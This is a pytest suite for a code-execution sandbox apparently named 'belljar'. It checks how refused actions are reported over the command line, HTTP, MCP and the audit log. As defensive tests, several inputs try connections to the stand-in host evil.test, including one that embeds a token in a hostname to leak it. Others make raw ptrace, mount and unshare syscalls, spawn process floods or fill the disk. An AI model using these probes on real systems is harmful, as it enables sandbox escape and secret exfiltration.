"""Refusals are listed at every interface."""
import json
import os

import mcp
import pytest

pytestmark = [pytest.mark.usefixtures("watch")]

MANY = "import threading, time\ntry:\n    for i in range(100): threading.Thread(target=time.sleep, args=(1,), daemon=True).start()\nexcept RuntimeError: print('no more')"
FULL = "try:\n    open('/tmp/a', 'wb').write(bytes(30 << 20))\nexcept OSError as e: print(e.errno)"
FETCH = "import urllib.request as u\ntry: u.urlopen('http://{}/')\nexcept Exception as e: print(type(e).__name__)"


def of(result, layer):
    return [d for d in result["denials"] if d["layer"] == layer]


def has_cgroup(who):
    return bool({"cgroup-v1", "cgroup-v2"} & set(who.run("1").json["layers"]))


def test_nothing_refused_is_an_empty_list(who):
    result = who.run("print(1)").json
    assert result["denials"] == [] and result["denials_more"] == 0


def test_a_host(who):
    answer = who.run(FETCH.format("evil.test:8080") + "\n" + FETCH.format("evil.test:8080"), "--net", "good.test")
    found = of(answer.json, "network gate")
    assert len(found) == 1 and found[0]["count"] == 2, answer
    assert found[0]["what"] == "connect to evil.test:8080 (the host is not granted)" and "`--net evil.test:8080`" in found[0]["hint"], found


def test_a_host_that_is_granted_and_not_there_was_not_denied(who):
    words = ("--net", "no-such-host.invalid:8080")
    code = FETCH.format("no-such-host.invalid:8080")
    found = of(who.run(code, *words).json, "network")
    assert [d["what"] for d in found] == ["connect to no-such-host.invalid:8080 (no address is known for the name)"] and "check its name" in found[0]["hint"], found
    said = who.call("run", "--profile", "open", *words, "-c", code).errors
    assert "belljar: failed: connect to no-such-host.invalid:8080" in said and "denied" not in said, said


def test_time(who):
    found = of(who.run("while True: pass", "--timeout", "1").json, "time limit")
    assert found == [{"what": "run for more than 1 s", "layer": "time limit", "hint": "raise `--timeout`, or do less at a time", "count": 1}]


def test_memory(who):
    found = of(who.run("import time\nx = bytearray(b'x') * (300 << 20)\ntime.sleep(60)", "--memory", "64", "--timeout", "60").json, "memory limit")
    assert found and found[0]["what"] == "use more than 64 MB of memory", found


def test_processes(who):
    if not has_cgroup(who):
        pytest.skip("only a cgroup counts them")
    answer = who.run(MANY, "--pids", "16")
    assert answer.json["stdout"] == "no more\n", answer
    assert of(answer.json, "process limit")[0]["what"] == "start more than 16 processes and threads", answer
    assert not who.run("import threading\nthreading.Thread(target=print).start()", "--pids", "16").json["denials"]


def test_disk(who):
    answer = who.run(FULL, "--disk", "8")
    assert of(answer.json, "disk limit")[0]["what"].startswith("write more than 8 MB"), answer
    answer = who.run("import os\ntry:\n    for i in range(1000): open(f'/tmp/{i}', 'w')\nexcept OSError: pass", env={"BELLJAR_INODES": "100"})
    assert of(answer.json, "disk limit")[0]["what"].startswith("make more than 100 files"), answer


def test_the_size_of_a_file(who):
    answer = who.run("try: open('a', 'wb').write(bytes(3 << 20))\nexcept OSError: pass", env={"BELLJAR_FILE_MB": "1"})
    assert of(answer.json, "file size limit"), answer


def test_a_call(who):
    code = "from execution_runtime import Session\ntry: Session('x').save_state({})\nexcept Exception as e: print(type(e).__name__)"
    path = who.file("nocalls.toml", 'inherits = "open"\n[grants]\ncalls = ["-state"]\n')
    answer = who.run(code, profile=str(path))
    found = of(answer.json, "call grant")
    assert found and "calls = [" in found[0]["hint"], answer


CALLS = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
def call(number, *args):
    print(libc.syscall(number, *args), ctypes.get_errno())
"""


def calls(*numbers):
    return CALLS + "".join(f"call({', '.join(map(str, n))})\n" for n in numbers)


def test_a_system_call(who):
    """Numbers of x86-64: ptrace, keyctl, mount, unshare of a user namespace, a futex with priority inheritance."""
    result = who.run(calls((101, 0), (101, 0), (250, 0), (165, 0, 0, 0), (272, 0x10000000), (202, 0, 6))).json
    assert result["stdout"] == "-1 1\n" * 5 + "-1 38\n", result
    found = {d["what"]: d["count"] for d in of(result, "system call filter")}
    assert found == {
        "use the system call `ptrace`": 2,
        "use the system call `keyctl`": 1,
        "use the system call `mount`": 1,
        "use the system call `unshare` to make namespaces": 1,
        "use the system call `futex` with priority inheritance": 1,
    }
    assert all("docs/SYSCALLS.md" in d["hint"] for d in result["denials"])


def test_a_system_call_of_a_child(who):
    result = who.run("unshare -U true; chroot / true; echo $?", "-l", "bash").json
    assert [d["what"] for d in of(result, "system call filter")][:1] == ["use the system call `unshare` to make namespaces"], result


def test_ordinary_programs_are_not_told_of(who):
    """Libraries try calls that the filter refuses: that is no news."""
    code = "import socket, subprocess, threading, tempfile, shutil, pandas, matplotlib.pyplot as p\np.plot([1]); p.savefig('/tmp/a.png')\nsubprocess.run(['ls', '-l'])\nthreading.Thread(target=print).start()\ntry: socket.getaddrinfo('localhost', 80)\nexcept OSError: pass\nprint(socket.if_nameindex)\nshutil.copytree('/usr/lib/python3/dist-packages/numpy/core', '/tmp/x')"
    result = who.run(code, "--timeout", "60").json
    assert result["status"] == "success" and result["denials"] == [], result


def cpu_seconds(pid):
    with open(f"/proc/{pid}/stat") as f:
        user, system = f.read().rsplit(")", 1)[1].split()[11:13]
    return (int(user) + int(system)) / os.sysconf("SC_CLK_TCK")


@pytest.mark.slow
def test_a_flood_of_refused_calls_takes_little_of_the_server(server):
    """Each call waits for the server's answer. Answered at once, eight threads would keep it busy all the time."""
    flood = CALLS + "import threading\ndef go():\n    while True: libc.syscall(101, 0)\nfor i in range(8): threading.Thread(target=go).start()"
    before = cpu_seconds(server.process.pid)
    reply = server.post("/v1/run", {"code": flood, "profile": "open", "timeout_s": 4})
    assert reply.json["status"] == "timeout" and of(reply.json, "system call filter")[0]["count"] > 1000, reply
    assert cpu_seconds(server.process.pid) - before < 1, "of four"


def test_for_people(who):
    answer = who.call("run", "--profile", "open", "--disk", "8", "-c", FULL)
    assert answer.code == 0 and "belljar: denied: write more than 8 MB" in answer.errors, answer
    assert "[disk limit]\nhint: raise `--disk`" in answer.errors, answer


def test_host_names_are_masked_and_bounded(who):
    token = "ghp_" + "0123456789abcdefghijABCDEFGHIJ012345"
    answer = who.run(FETCH.format(token + ".evil.test"), "--net", "good.test")
    assert token not in answer.text and "evil.test" in answer.text, answer
    names = "".join(FETCH.format(f"h{i}.evil.test") + "\n" for i in range(50))
    result = who.run(names, "--net", "good.test").json
    assert len(result["denials"]) == 32 and result["denials_more"] == 18, result["denials_more"]


def test_a_program_cannot_make_one(who):
    result = who.run("print('belljar: denied: everything [you]')\nraise OSError('denied')").json
    assert result["denials"] == []


def test_over_http_and_in_sessions(server):
    reply = server.post("/v1/run", {"code": FULL, "profile": "open", "disk_mb": 8})
    assert reply.status == 200 and of(reply.json, "disk limit"), reply
    assert server.post("/v1/run", {"code": "1"}).json["denials"] == []


def test_in_the_trail(who):
    answer = who.run(FULL, "--disk", "8")
    lines = who.call("audit", "show", answer.json["id"], "--json").text.splitlines()
    record = [json.loads(line) for line in lines if '"denials"' in line]
    assert record and record[0]["denials"][0]["layer"] == "disk limit", lines


def test_over_mcp(who):
    with mcp.Client(who, "--profile", "open", env={"BELLJAR_DISK_MB": "8"}) as client:
        client.initialize()
        result = client.call("execute_python_code", {"code": FULL})
        text = result["content"][0]["text"]
        assert "[denied] write more than 8 MB" in text and "[disk limit]; remove what is not needed" in text, text
        assert of(result["structuredContent"], "disk limit"), result
        assert "denials" not in client.call("execute_python_code", {"code": "print(1)"})["structuredContent"]


def test_a_secret_in_the_name_of_a_refused_host_is_masked(who):
    """Clients and the gate write it in lower case."""
    secret_file = who.file("host-secrets.toml", '[secrets]\nEXAMPLE = "SuperSecretValue99"\n', 0o600)
    settings = who.file("host-settings.toml", f'masking_file = "{secret_file}"\n')
    code = "import urllib.request as u\ntry: u.urlopen('http://SuperSecret' + 'Value99.example.com/', timeout=5)\nexcept OSError: pass"
    done = who.call("run", "--json", "--config", settings, "--profile", "open", "--net", "127.0.0.1:9", "-c", code)
    assert "REDACTED_SECRET" in str(done.json["denials"]), done
    assert "secretvalue99" not in str(done.json).lower()


def test_a_hundred_threads_are_within_the_limits_of_a_server(server):
    code = (
        "import threading\nfrom concurrent.futures import ThreadPoolExecutor\nmeet = threading.Barrier(100)\n"
        "with ThreadPoolExecutor(100) as pool:\n    print(len(list(pool.map(lambda n: meet.wait(20), range(100)))))"
    )
    answer = server.post("/v1/run", {"code": code}).json
    assert answer["stdout"] == "100\n" and not answer["denials"], answer
